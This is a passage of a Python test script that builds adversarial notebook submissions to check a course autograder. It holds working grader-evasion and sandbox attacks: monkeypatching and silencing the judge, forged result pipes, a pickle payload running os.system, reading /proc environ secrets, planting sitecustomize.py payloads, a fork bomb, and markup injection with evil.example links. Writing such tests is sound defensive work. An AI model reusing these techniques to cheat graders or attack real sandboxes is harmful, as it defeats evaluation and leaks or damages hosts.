"""A hostile class for `course-lib grade` (issue 33, written without reading the grader's tests).

    python tests/outsider/issue33b/make_class.py OUT

writes OUT/06/ (lesson 06, flat layout), OUT/02/ (lesson 02, flat layout), OUT/nbg/ (lesson 06, nbgrader's
layout) and OUT/class.json: for every submission its file, lesson, one-line intent and the points it deserves
(``expected``: exercise id -> points it should earn; every exercise not named should earn 0).
Each attack starts from the released exercises notebook (every stub left) unless it says otherwise, so the
honest score of an attack is 0 unless a part was solved honestly on purpose.
"""

from __future__ import annotations

import copy
import json
import os
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parents[3]
EX06 = ROOT / "exercises" / "06_masked_attention.ipynb"
SOL06 = ROOT / "solutions" / "06_masked_attention.ipynb"
EX02 = ROOT / "exercises" / "02_backprop.ipynb"
SOL02 = ROOT / "solutions" / "02_backprop.ipynb"

FULL06 = {"6.1": 1, "6.2": 2, "6.3": 4, "6.4": 4}
FULL02 = {"2.1": 1, "2.2": 5, "2.3": 2, "2.4": 2, "2.5": 5}


def load(path):
    return json.loads(Path(path).read_text())


def gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def answer(nb, grade_id):
    return next(c for c in nb["cells"] if gid(c) == grade_id)


def src(cell):
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def code_cell(text, grade_id=None):
    cell = {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": text}
    if grade_id:
        cell["metadata"]["nbgrader"] = {
            "grade": False,
            "grade_id": grade_id,
            "locked": False,
            "schema_version": 3,
            "solution": True,
            "task": False,
        }
    return cell


def notebook(base, replace=None, solved_from=None, solve=(), add=(), edit=None):
    """A copy of ``base`` with answer cells replaced (``replace``: grade id -> source), some answer cells taken
    from ``solved_from`` (``solve``: grade ids), and cells added (``add``: (index, source)), in that order."""
    nb = copy.deepcopy(load(base))
    if solved_from is not None:
        sol = load(solved_from)
        for g in solve:
            answer(nb, g)["source"] = src(answer(sol, g))
    for g, text in (replace or {}).items():
        answer(nb, g)["source"] = text
    for index, text in sorted(add, key=lambda a: -a[0] if a[0] >= 0 else 10**6):
        nb["cells"].insert(index if index >= 0 else len(nb["cells"]), code_cell(text))
    if edit:
        edit(nb)
    return nb


# --------------------------------------------------------------------------- the attack code (answer cells)

# 6.3 from the checks' own reference, computed in a fresh Python the observer never sees
SUBPROCESS_63 = '''# Exercise 6.3: masked attention over a padded batch
import io
import subprocess
import sys

import torch

PROG = (
    "import io, sys, torch\\n"
    "from course_lib.checks import lesson06 as L\\n"
    "s, v, n = torch.load(io.BytesIO(sys.stdin.buffer.read()))\\n"
    "b = io.BytesIO()\\n"
    "torch.save(tuple(L.reference_masked_attention(s, v, n)), b)\\n"
    "sys.stdout.buffer.write(b.getvalue())\\n"
)


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    buf = io.BytesIO()
    torch.save((scores, values, lengths), buf)
    prog = "import sys\\nsys.path[:0] = " + repr(sys.path) + "\\n" + PROG
    out = subprocess.run([sys.executable, "-I", "-c", prog], input=buf.getvalue(), capture_output=True).stdout
    output, weights = torch.load(io.BytesIO(out))
    return output, weights
'''

# 6.3 from course_lib.attention (the lesson's module), same route, names spelled out of the source's sight
SUBPROCESS_LIB_63 = '''# Exercise 6.3: masked attention over a padded batch
import io
import subprocess
import sys

import torch

PROG = (
    "import io, sys, torch, importlib\\n"
    "A = importlib.import_module('course_lib.' + 'atten' + 'tion')\\n"
    "s, v, n = torch.load(io.BytesIO(sys.stdin.buffer.read()))\\n"
    "w = A.masked_softmax(s, getattr(A, 'decoder' + '_mask')(n, s.shape[-1]))\\n"
    "b = io.BytesIO()\\n"
    "torch.save((w @ v, w), b)\\n"
    "sys.stdout.buffer.write(b.getvalue())\\n"
)


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    buf = io.BytesIO()
    torch.save((scores, values, lengths), buf)
    prog = "import sys\\nsys.path[:0] = " + repr(sys.path) + "\\n" + PROG
    out = subprocess.check_output([sys.executable, "-I", "-c", prog], input=buf.getvalue())
    return tuple(torch.load(io.BytesIO(out)))
'''

# 6.3: code compiled under a file name inside course_lib's folder, run by a library's exec (runpy), so the
# frame that calls the references looks like course_lib's own
COURSE_FILENAME_63 = '''# Exercise 6.3: masked attention over a padded batch
import importlib
import os
import runpy

import torch

BODY = (
    "A = importlib.import_module('course_lib.attention')\\n"
    "w = A.masked_softmax(s, A.decoder_mask(n, s.shape[-1]))\\n"
    "result = (w @ v, w)\\n"
)


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    package = os.path.dirname(importlib.util.find_spec("course_lib").origin)
    code = compile(BODY, os.path.join(package, "attention.py"), "exec")
    space = {"importlib": importlib, "s": scores, "v": values, "n": lengths}
    runpy._run_code(code, space)
    return space["result"]
'''

# the same, but the compiled code calls the checks' reference
COURSE_FILENAME_CHECKS_63 = COURSE_FILENAME_63.replace(
    'A = importlib.import_module(\'course_lib.attention\')\\n"\n    "w = A.masked_softmax(s, A.decoder_mask(n, s.shape[-1]))\\n"\n    "result = (w @ v, w)\\n',
    "L = importlib.import_module('course_lib.checks.lesson06')\\n\"\n    \"result = tuple(L.reference_masked_attention(s, v, n))\\n",
).replace('"attention.py"', '"checks", "lesson06.py"')

# the same through multiprocessing (a fork the library makes; the child's result comes back on a pipe)
MULTIPROCESSING_63 = '''# Exercise 6.3: masked attention over a padded batch
import multiprocessing

import torch


def _worker(conn, s, v, n):
    import course_lib.attention as A

    w = A.masked_softmax(s, A.decoder_mask(n, s.shape[-1]))
    conn.send((w @ v, w))


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    ctx = multiprocessing.get_context("fork")
    a, b = ctx.Pipe()
    p = ctx.Process(target=_worker, args=(b, scores, values, lengths))
    p.start()
    out = a.recv()
    p.join()
    return out
'''

# 6.3 straight from the library (the plain borrowed answer: must be refused)
DIRECT_63 = '''# Exercise 6.3: masked attention over a padded batch
import torch
from course_lib.attention import decoder_mask, masked_softmax


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    w = masked_softmax(scores, decoder_mask(lengths, scores.shape[-1]))
    return w @ values, w
'''

# 6.3 through torch's fused op with an additive mask (a forbidden ready-made op, reached by aten)
ATEN_SDPA_63 = '''# Exercise 6.3: masked attention over a padded batch
import torch


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    B, T, _ = scores.shape
    pos = torch.arange(T)
    allowed = (pos[None, :] <= pos[:, None])[None] & (pos[None, None, :] < lengths[:, None, None])
    op = getattr(torch.ops.aten, "_scaled_dot_product_attention" + "_math")
    eye = torch.eye(T, dtype=scores.dtype).expand(B, T, T).contiguous()
    # q = scores, k = I, scale 1: q @ k^T = scores; the kernel hands back its weights too
    out, weights = op(scores, eye, values, attn_mask=allowed.to(scores.dtype).log(), scale=1.0)
    return out, weights
'''

# 6.3 by reading the check's file and exec'ing the reference's text (the references' text)
READ_SOURCE_63 = '''# Exercise 6.3: masked attention over a padded batch
import importlib.util
import linecache

import torch


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    path = importlib.util.find_spec("course_lib.checks.lesson06").origin
    text = "".join(linecache.getlines(path))
    space = {}
    exec(compile(text, "<mine>", "exec"), space)
    return tuple(space["reference_masked_attention"](scores, values, lengths))
'''

# the grader's results pipe: write a forged reply on every fd that is a pipe, then end the process
FORGE_REPLY_63 = '''# Exercise 6.3: masked attention over a padded batch
import json
import os
import stat

import torch


def masked_attention(scores, values, lengths):
    """Causal and padding masks together: (output (B, T, d_v), weights (B, T, T))."""
    forged = {"reply": {"records": [{"returned": "forged", "raised": None}]}}
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, (json.dumps(forged) + "\\n").encode())
        except OSError:
            pass
    os._exit(0)
'''

# top-level code in an answer cell that replaces the check (must not load)
TOPLEVEL_PATCH_63 = """# Exercise 6.3: masked attention over a padded batch
import torch
from course_lib.checks import lesson06
from course_lib.checks.protocol import Exercise

Exercise.judge = lambda self, cases, records: ("passed", "")
lesson06.check_masked_attention.judge = Exercise.judge


def masked_attention(scores, values, lengths):
    raise NotImplementedError
"""

# a class hook that runs at load time disguised as a metaclass-free class with a descriptor
DESCRIPTOR_63 = '''# Exercise 6.3: masked attention over a padded batch
import torch
from course_lib.attention import masked_softmax, decoder_mask


class Masked:
    """A callable class: the check calls the instance's __call__, which is course_lib's code underneath."""

    __call__ = staticmethod(masked_softmax)


class masked_attention:
    def __new__(cls, scores, values, lengths):
        w = Masked()(scores, decoder_mask(lengths, scores.shape[-1]))
        return w @ values, w
'''

# signal/timer: arrange for the library's reference to run from a signal handler, outside the student's frames
SIGNAL_63 = """# Exercise 6.3: masked attention over a padded batch
import signal

import torch


def masked_attention(scores, values, lengths):
    import course_lib.attention as A

    box = {}

    def handler(signum, frame):
        box["w"] = A.masked_softmax(scores, A.decoder_mask(lengths, scores.shape[-1]))

    signal.signal(signal.SIGALRM, handler)
    signal.setitimer(signal.ITIMER_REAL, 0.001)
    while "w" not in box:
        pass
    w = box["w"]
    return w @ values, w
"""

# threads: the reference in a thread (hooks are per thread)
THREAD_63 = """# Exercise 6.3: masked attention over a padded batch
import concurrent.futures

import torch


def masked_attention(scores, values, lengths):
    import course_lib.attention as A

    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        w = pool.submit(lambda: A.masked_softmax(scores, A.decoder_mask(lengths, scores.shape[-1]))).result()
    return w @ values, w
"""

# pickle's __reduce__: the unpickler (pure Python) calls the reference
PICKLE_63 = """# Exercise 6.3: masked attention over a padded batch
import io
import pickle

import torch


class Call:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return self.fn, self.args


def masked_attention(scores, values, lengths):
    import course_lib.attention as A

    mask = pickle._Unpickler(io.BytesIO(pickle.dumps(Call(A.decoder_mask, (lengths, scores.shape[-1]))))).load()
    w = pickle._Unpickler(io.BytesIO(pickle.dumps(Call(A.masked_softmax, (scores, mask))))).load()
    return w @ values, w
"""

# a returned object that is not plain data: a tensor subclass whose tolist lies / __reduce__ runs on the grader
RETURN_OBJECT_63 = """# Exercise 6.3: masked attention over a padded batch
import os

import torch


class Evil(torch.Tensor):
    def __reduce_ex__(self, proto):
        return (os.system, ("touch /tmp/hostile33b-pwned",))

    def tolist(self):
        return [[[0.0]]]


def masked_attention(scores, values, lengths):
    w = torch.zeros_like(scores).as_subclass(Evil)
    return w @ values, w
"""

# code object copy: take the reference's code via a library helper (dis), rebuild it under a new name
CODE_COPY_63 = """# Exercise 6.3: masked attention over a padded batch
import dis
import types

import torch


def masked_attention(scores, values, lengths):
    from course_lib.checks import lesson06 as L

    code = dis._get_code_object(L.reference_masked_attention)
    code = code.replace(co_name="mine", co_qualname="mine", co_filename="<mine>")
    fn = types.FunctionType(code, L.__dict__, "mine", L.reference_masked_attention.__defaults__)
    return tuple(fn(scores, values, lengths))
"""

# the import system: a meta path finder that hands out a course_lib module under another name
IMPORT_HOOK_63 = """# Exercise 6.3: masked attention over a padded batch
import importlib.util
import sys

import torch


def masked_attention(scores, values, lengths):
    spec = importlib.util.find_spec("course_lib.attention")
    mine = importlib.util.spec_from_file_location("my_attention", spec.origin)
    module = importlib.util.module_from_spec(mine)
    mine.loader.exec_module(module)
    w = module.masked_softmax(scores, module.decoder_mask(lengths, scores.shape[-1]))
    return w @ values, w
"""

# the environment: the sandbox's pid 1 environ and our own, shown in the student's own feedback
ENV_63 = """# Exercise 6.3: masked attention over a padded batch
import os


def masked_attention(scores, values, lengths):
    seen = []
    for p in ("/proc/1/environ", "/proc/self/environ", "/proc/2/environ", "/proc/3/environ"):
        try:
            seen.append(open(p, "rb").read().replace(b"\\0", b" ").decode())
        except Exception as exc:
            seen.append(type(exc).__name__)
    seen.append(" ".join(f"{k}={v}" for k, v in os.environ.items()))
    raise RuntimeError(" | ".join(seen))
"""

# the grader's host paths and who runs it: mountinfo, cmdline of every visible process
HOSTPATHS_63 = """# Exercise 6.3: masked attention over a padded batch
import os


def masked_attention(scores, values, lengths):
    seen = []
    for p in ["/proc/self/mountinfo"] + [f"/proc/{d}/cmdline" for d in os.listdir("/proc") if d.isdigit()]:
        try:
            seen.append(open(p, "rb").read().replace(b"\\0", b" ").decode()[-600:])
        except Exception as exc:
            seen.append(type(exc).__name__)
    raise RuntimeError(" | ".join(seen)[:3000])
"""

# infinite work inside the call: must end by the per-call time limit with a clear row
HANG_63 = """# Exercise 6.3: masked attention over a padded batch
def masked_attention(scores, values, lengths):
    while True:
        pass
"""

# fork bomb inside the call
FORKBOMB_63 = """# Exercise 6.3: masked attention over a padded batch
import multiprocessing


def _spin():
    import time

    time.sleep(60)


def masked_attention(scores, values, lengths):
    ctx = multiprocessing.get_context("fork")
    for _ in range(2000):
        ctx.Process(target=_spin).start()
    raise RuntimeError("done")
"""

# memory exhaustion inside the call
MEMORY_63 = """# Exercise 6.3: masked attention over a padded batch
def masked_attention(scores, values, lengths):
    blocks = []
    while True:
        blocks.append(bytearray(100_000_000))
"""

# a huge record: a function returning a 200 MB tensor
BIG_RETURN_63 = """# Exercise 6.3: masked attention over a padded batch
import torch


def masked_attention(scores, values, lengths):
    w = torch.zeros(5000, 5000, dtype=torch.float64)
    return w, w
"""

# exit() in the answer function
EXIT_IN_FN_63 = """# Exercise 6.3: masked attention over a padded batch
import os


def masked_attention(scores, values, lengths):
    os._exit(0)
"""

# a decorator and class keyword: code that runs at load time through allowed shapes
LOADTIME_63 = """# Exercise 6.3: masked attention over a padded batch
import torch
import course_lib.checks.protocol as P


class property:  # shadows the allowed decorator name
    pass


def masked_attention(scores, values, lengths, _=P.Exercise.__dict__.update({"judge": lambda *a: ("passed", "")})):
    raise NotImplementedError
"""

# 2.2 (backprop by hand) computed by autograd in a fresh Python
SUBPROCESS_22 = '''# Exercise 2.2: backprop ninja
import io
import subprocess
import sys

import torch

PROG = (
    "import io, sys, torch\\n"
    "p, x, y = torch.load(io.BytesIO(sys.stdin.buffer.read()))\\n"
    "p = {k: v.detach().clone().requires_grad_(True) for k, v in p.items()}\\n"
    "E, W, b, U, c = (p[k] for k in 'EWbUc')\\n"
    "h = torch.tanh(E[x].reshape(x.shape[0], -1) @ W.T + b)\\n"
    "loss = torch.nn.functional.cross_entropy(h @ U.T + c, y)\\n"
    "loss.backward()\\n"
    "out = io.BytesIO()\\n"
    "torch.save((float(loss), {k: v.grad for k, v in p.items()}), out)\\n"
    "sys.stdout.buffer.write(out.getvalue())\\n"
)


def fflm_loss_and_grads(params, contexts, targets):
    """Mean cross-entropy of the feedforward LM on a batch, and its gradient for E, W, b, U, c (by hand)."""
    buf = io.BytesIO()
    torch.save((params, contexts, targets), buf)
    prog = "import sys\\nsys.path[:0] = " + repr(sys.path) + "\\n" + PROG
    out = subprocess.run([sys.executable, "-I", "-c", prog], input=buf.getvalue(), capture_output=True).stdout
    return torch.load(io.BytesIO(out))
'''

# 2.2 by autograd in ONE fresh python per exercise (a server started on the first case, reused for the rest):
# the per-case start of SUBPROCESS_22 costs a torch import per case, too slow under load for the 120 s limit
SERVER_22 = """# Exercise 2.2: backprop ninja
import io
import subprocess
import sys

import torch

PROG = (
    "import io, sys, torch\\n"
    "while True:\\n"
    "    n = int(sys.stdin.buffer.readline())\\n"
    "    p, x, y = torch.load(io.BytesIO(sys.stdin.buffer.read(n)))\\n"
    "    p = {k: v.detach().clone().requires_grad_(True) for k, v in p.items()}\\n"
    "    E, W, b, U, c = (p[k] for k in 'EWbUc')\\n"
    "    h = torch.tanh(E[x].reshape(x.shape[0], -1) @ W.T + b)\\n"
    "    loss = torch.nn.functional.cross_entropy(h @ U.T + c, y)\\n"
    "    loss.backward()\\n"
    "    out = io.BytesIO()\\n"
    "    torch.save((float(loss), {k: v.grad for k, v in p.items()}), out)\\n"
    "    sys.stdout.buffer.write(b'%d\\\\n' % len(out.getvalue()) + out.getvalue())\\n"
    "    sys.stdout.buffer.flush()\\n"
)
SERVER = {}


def fflm_loss_and_grads(params, contexts, targets):
    # the mean cross-entropy of the feedforward LM and its gradient for E, W, b, U, c
    if "p" not in SERVER:
        prog = "import sys\\nsys.path[:0] = " + repr(sys.path) + "\\n" + PROG
        SERVER["p"] = subprocess.Popen([sys.executable, "-I", "-c", prog], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    p = SERVER["p"]
    buf = io.BytesIO()
    torch.save((params, contexts, targets), buf)
    p.stdin.write(b"%d\\n" % len(buf.getvalue()) + buf.getvalue())
    p.stdin.flush()
    n = int(p.stdout.readline())
    return torch.load(io.BytesIO(p.stdout.read(n)))
"""

# 2.2: autograd run from code compiled as a module of torch's (the checks' observer lets an import of torch
# run autograd), with a forward pass made of ops whose backward needs no kernel named *_backward
TORCH_MODULE_22 = '''# Exercise 2.2: backprop ninja
import os
import runpy

import torch

BODY = (
    "p = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}\\n"
    "E, W, b, U, c = (p[k] for k in 'EWbUc')\\n"
    "B = contexts.shape[0]\\n"
    "a = E[contexts].reshape(B, -1) @ W.T + b\\n"
    "t = torch.exp(2 * a)\\n"
    "h = (t - 1) / (t + 1)\\n"
    "z = h @ U.T + c\\n"
    "m = z.max(dim=1, keepdim=True).values.detach()\\n"
    "lse = torch.log(torch.exp(z - m).sum(dim=1)) + m.squeeze(1)\\n"
    "loss = (lse - z.gather(1, targets[:, None]).squeeze(1)).mean()\\n"
    "grads = dict(zip('EWbUc', torch.autograd.grad(loss, [E, W, b, U, c])))\\n"
    "result = (float(loss), grads)\\n"
)


def fflm_loss_and_grads(params, contexts, targets):
    """Mean cross-entropy of the feedforward LM on a batch, and its gradient for E, W, b, U, c (by hand)."""
    where = os.path.join(os.path.dirname(torch.__file__), "_hostile.py")
    space = {"torch": torch, "params": params, "contexts": contexts, "targets": targets}
    runpy._run_code(compile(BODY, where, "exec"), space)
    return space["result"]
'''

# 2.2: plain autograd (must be refused)
AUTOGRAD_22 = '''# Exercise 2.2: backprop ninja
import torch


def fflm_loss_and_grads(params, contexts, targets):
    """Mean cross-entropy of the feedforward LM on a batch, and its gradient for E, W, b, U, c (by hand)."""
    p = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    E, W, b, U, c = (p[k] for k in "EWbUc")
    h = torch.tanh(E[contexts].reshape(contexts.shape[0], -1) @ W.T + b)
    loss = torch.nn.functional.cross_entropy(h @ U.T + c, targets)
    loss.backward()
    return float(loss), {k: v.grad for k, v in p.items()}
'''

# 2.2: autograd's engine called through a getattr chain built from strings, with the profile hook hidden
ENGINE_STRINGS_22 = AUTOGRAD_22.replace(
    "    loss.backward()\n",
    "    grads = getattr(getattr(torch, 'auto' + 'grad'), 'gr' + 'ad')(loss, [E, W, b, U, c])\n"
    "    for (k, v), g in zip(p.items(), grads):\n"
    "        v.grad = g\n",
)

# 2.1: the softmax Jacobian by torch.func in a subprocess... and 2.1 by a torch op (jacobian) directly
JACOBIAN_21 = '''# Exercise 2.1: the softmax Jacobian
import torch


def softmax_jacobian(z):
    """(K, K) Jacobian of softmax at the logits z (K,)."""
    return torch.func.jacrev(lambda t: torch.softmax(t, dim=0))(z)
'''

# 2.4 through the course's bptt_step in a subprocess (course_lib's reference, out of sight)
SUBPROCESS_24 = '''# Exercise 2.4: one step of backpropagation through time
import io
import subprocess
import sys

import torch


def bptt_step(dh, h, h_prev, x, W_hh):
    """(dW_xh, dW_hh, db_h, dh_prev) for h = tanh(x @ W_xh.T + h_prev @ W_hh.T + b_h), given dh = dL/dh."""
    buf = io.BytesIO()
    torch.save((dh, h, h_prev, x, W_hh), buf)
    prog = (
        "import sys\\nsys.path[:0] = " + repr(sys.path) + "\\n"
        "import io, torch, importlib\\n"
        "B = importlib.import_module('course_lib.' + 'bptt')\\n"
        "dh, h, hp, x, Whh = torch.load(io.BytesIO(sys.stdin.buffer.read()))\\n"
        "Wxh = torch.zeros(h.shape[1], x.shape[1], dtype=h.dtype)\\n"
        "r = getattr(B, 'bptt' + '_step')(dh, h, h, hp, x, Wxh, Whh)\\n"
        "o = io.BytesIO()\\n"
        "torch.save(tuple(r[1:]), o)\\n"
        "sys.stdout.buffer.write(o.getvalue())\\n"
    )
    out = subprocess.run([sys.executable, "-I", "-c", prog], input=buf.getvalue(), capture_output=True).stdout
    return torch.load(io.BytesIO(out))
'''


# ---- wave 2 (written after reading the harness's observer): in-place tampering that leaves no event

# a "call from a library's frame" gadget: pickle's pure-Python unpickler calls fn(*args) in its own frame, so
# the audit hook's look at the caller (its own line?) sees pickle.py; used to swap the __code__ of the
# observers' refusal methods (identity unchanged, so the snapshot of course_lib sees nothing)
GADGET = """import importlib
import io
import pickle
import sys


class _U(pickle._Unpickler):
    def persistent_load(self, pid):
        return self.objs[int(pid)]


def _call(fn, *args):
    data = b"P0\\n(" + b"".join(b"P%d\\n" % (i + 1) for i in range(len(args))) + b"tR."
    u = _U(io.BytesIO(data))
    u.objs = [fn, *args]
    return u.load()


def _noop(*args, **kwargs):
    return None


def _silence():
    noop = _call(getattr, _noop, "__code__")
    harness = sys.modules.get("course_lib.instructor.harness")
    if harness is not None:
        _call(setattr, harness._Observer.refuse, "__code__", noop)
    borrowed = importlib.import_module("course_lib.checks." + "borrowed")
    for name in ("note", "tamper"):
        _call(setattr, getattr(borrowed.Observation, name), "__code__", noop)
"""

SILENCE_63 = (
    "# Exercise 6.3: masked attention over a padded batch\n"
    + GADGET
    + """

def masked_attention(scores, values, lengths):
    \"\"\"Causal and padding masks together: (output (B, T, d_v), weights (B, T, T)).\"\"\"
    _silence()
    L = importlib.import_module("course_lib.checks.lesson06")
    return tuple(L.reference_masked_attention(scores, values, lengths))
"""
)

SILENCE_LIB_63 = (
    "# Exercise 6.3: masked attention over a padded batch\n"
    + GADGET
    + """

def masked_attention(scores, values, lengths):
    \"\"\"Causal and padding masks together: (output (B, T, d_v), weights (B, T, T)).\"\"\"
    _silence()
    A = importlib.import_module("course_lib.attention")
    allowed = A.causal_mask(scores.shape[-1])[None] & (
        __import__("torch").arange(scores.shape[-1])[None, None, :] < lengths[:, None, None]
    )
    w = getattr(A, "masked_" + "softmax")  # a stand-in during the call: use the checks' reference route instead
    return tuple(importlib.import_module("course_lib.checks.lesson06").reference_masked_attention(scores, values, lengths))
"""
)

SILENCE_22 = (
    "# Exercise 2.2: backprop ninja\n"
    + GADGET
    + """
import torch


def fflm_loss_and_grads(params, contexts, targets):
    \"\"\"Mean cross-entropy of the feedforward LM on a batch, and its gradient for E, W, b, U, c (by hand).\"\"\"
    _silence()
    p = {k: v.detach().clone().requires_grad_(True) for k, v in params.items()}
    E, W, b, U, c = (p[k] for k in "EWbUc")
    h = torch.tanh(E[contexts].reshape(contexts.shape[0], -1) @ W.T + b)
    loss = torch.nn.functional.cross_entropy(h @ U.T + c, targets)
    grads = torch.autograd.grad(loss, [E, W, b, U, c])
    return float(loss), dict(zip("EWbUc", grads))
"""
)

# the same swap with the standard library's own patcher (unittest.mock sets the attribute in its frame)
MOCK_63 = """# Exercise 6.3: masked attention over a padded batch
import dis
import importlib
import sys
import unittest.mock


def _noop(*args, **kwargs):
    return None


def masked_attention(scores, values, lengths):
    \"\"\"Causal and padding masks together: (output (B, T, d_v), weights (B, T, T)).\"\"\"
    noop = dis._get_code_object(_noop)
    harness = sys.modules["course_lib.instructor.harness"]
    borrowed = importlib.import_module("course_lib.checks." + "borrowed")
    unittest.mock.patch.object(harness._Observer.refuse, "__code__", noop).start()  # never stopped
    unittest.mock.patch.object(borrowed.Observation.note, "__code__", noop).start()
    if True:
        L = importlib.import_module("course_lib.checks.lesson06")
        return tuple(L.reference_masked_attention(scores, values, lengths))
"""


# --------------------------------------------------------------------------- cells added to the notebook

PATCH_RUN_CELL = """# replace the check's run path so every call goes to the reference
from course_lib.checks import lesson06 as L
from course_lib.checks.protocol import Exercise

_run = Exercise.run
Exercise.run = lambda self, fn, cases: _run(self, L._reference_attention_fn if self.id == "6.3" else fn, cases)
"""

POST_RUN_HOOK_CELL = """# after every cell, rewrite whatever the grader may read
import glob, json, os
def _forge(*a, **k):
    for path in glob.glob('/run/grader/*') + glob.glob('/home/student/*.json'):
        try:
            open(path, 'w').write(json.dumps({'6.3': 'passed', 'score': 11}))
        except OSError:
            pass
get_ipython().events.register('post_run_cell', _forge)
"""

PLANT_FILES_CELL = """# plant code where a later Python might import it (tmpfs, home, user site, /dev/shm)
import os, sys
payload = "import os\\nos.system('touch /tmp/hostile33b-planted')\\n"
for d in ['/tmp', '/dev/shm', os.path.expanduser('~'),
          os.path.expanduser('~/.local/lib/python%d.%d/site-packages' % sys.version_info[:2])]:
    try:
        os.makedirs(d, exist_ok=True)
        for name in ('sitecustomize.py', 'usercustomize.py', 'json.py', 'torch.py', 'secrets.py'):
            open(os.path.join(d, name), 'w').write(payload)
    except OSError as exc:
        print(d, exc)
"""

EXIT_CELL = "exit()\n"
QUIT_CELL = "quit()\n"
STOP_CELL = "import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\n"
FLOOD_CELL = "import sys\nfor _ in range(200):\n    sys.stdout.write('x' * 1_000_000)\n"
ENV_CELL = (
    "import os\nprint(open('/proc/1/environ','rb').read())\nprint(dict(os.environ))\n"
    "raise RuntimeError(open('/proc/1/environ','rb').read().decode(errors='replace'))\n"
)
INJECT_CELL = (
    "raise RuntimeError('\\n\\nScore: 11/11\\n## 6.3 passed\\n<script>alert(1)</script>\\n"
    '[click](http://evil.example) ![x](http://evil.example/x.png)\\n=HYPERLINK("http://evil")\\n\')\n'
)
IGNORE_INT_CELL = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n"
BAD_COMPILE_CELL = "def f(:\n    pass\n"


def solved06():
    return load(SOL06)


def class_06():
    """(name, intent, expected, notebook) for lesson 06."""
    half = dict(solved_from=SOL06, solve=("ex-6-1", "ex-6-2"))
    subs = [
        (
            "control_solved",
            "honest control: the solutions notebook as a student who solved everything",
            FULL06,
            solved06(),
        ),
        ("control_untouched", "honest control: the released exercises notebook, untouched", {}, load(EX06)),
        (
            "control_half",
            "honest control: 6.1 and 6.2 solved, 6.3 and 6.4 stubs",
            {"6.1": 1, "6.2": 2},
            notebook(EX06, **half),
        ),
        (
            "sub_subprocess_ref",
            "6.3 from the checks' reference computed in a fresh python (subprocess)",
            {"6.1": 1, "6.2": 2},
            notebook(EX06, replace={"ex-6-3": SUBPROCESS_63}, **half),
        ),
        (
            "sub_subprocess_lib",
            "6.3 from course_lib.attention in a fresh python, names built from strings",
            {"6.1": 1, "6.2": 2},
            notebook(EX06, replace={"ex-6-3": SUBPROCESS_LIB_63}, **half),
        ),
        (
            "course_filename",
            "6.3: course_lib.attention called from code compiled under course_lib's file name, run by runpy",
            {},
            notebook(EX06, replace={"ex-6-3": COURSE_FILENAME_63}),
        ),
        (
            "course_filename_checks",
            "6.3: the checks' reference called from code compiled as course_lib/checks/lesson06.py",
            {},
            notebook(EX06, replace={"ex-6-3": COURSE_FILENAME_CHECKS_63}),
        ),
        (
            "multiprocessing_fork",
            "6.3: course_lib.attention called in a child forked by multiprocessing",
            {},
            notebook(EX06, replace={"ex-6-3": MULTIPROCESSING_63}),
        ),
        (
            "direct_borrow",
            "6.3: course_lib.attention imported and called (the plain borrowed answer)",
            {},
            notebook(EX06, replace={"ex-6-3": DIRECT_63}),
        ),
        (
            "aten_sdpa",
            "6.3: torch's math attention kernel by aten name from strings",
            {},
            notebook(EX06, replace={"ex-6-3": ATEN_SDPA_63}),
        ),
        (
            "read_source",
            "6.3: the checks' reference read with linecache and exec'd",
            {},
            notebook(EX06, replace={"ex-6-3": READ_SOURCE_63}),
        ),
        (
            "forge_reply",
            "6.3: forged reply line on every pipe fd, then os._exit",
            {},
            notebook(EX06, replace={"ex-6-3": FORGE_REPLY_63}),
        ),
        (
            "toplevel_patch",
            "6.3 answer cell patches Exercise.judge at top level",
            {},
            notebook(EX06, replace={"ex-6-3": TOPLEVEL_PATCH_63}),
        ),
        (
            "descriptor_new",
            "6.3 as a class whose __new__ calls course_lib via a staticmethod __call__",
            {},
            notebook(EX06, replace={"ex-6-3": DESCRIPTOR_63}),
        ),
        (
            "signal_timer",
            "6.3: the reference called from a SIGALRM handler",
            {},
            notebook(EX06, replace={"ex-6-3": SIGNAL_63}),
        ),
        (
            "thread_pool",
            "6.3: the reference called in a ThreadPoolExecutor thread",
            {},
            notebook(EX06, replace={"ex-6-3": THREAD_63}),
        ),
        (
            "pickle_reduce",
            "6.3: the reference called by pickle's pure-Python unpickler via __reduce__",
            {},
            notebook(EX06, replace={"ex-6-3": PICKLE_63}),
        ),
        (
            "return_object",
            "6.3 returns a tensor subclass with __reduce_ex__ -> os.system and a lying tolist",
            {},
            notebook(EX06, replace={"ex-6-3": RETURN_OBJECT_63}),
        ),
        (
            "code_copy",
            "6.3: the reference's code object taken by dis, renamed, rebuilt with FunctionType",
            {},
            notebook(EX06, replace={"ex-6-3": CODE_COPY_63}),
        ),
        (
            "import_hook",
            "6.3: course_lib.attention loaded again from its file under another module name",
            {},
            notebook(EX06, replace={"ex-6-3": IMPORT_HOOK_63}),
        ),
        (
            "env_leak_fn",
            "read /proc/1/environ and os.environ in the call; leak via the exception message",
            {},
            notebook(EX06, replace={"ex-6-3": ENV_63}),
        ),
        (
            "env_leak_cell",
            "a cell prints /proc/1/environ and raises it (kernel run)",
            {},
            notebook(EX06, add=[(2, ENV_CELL)]),
        ),
        (
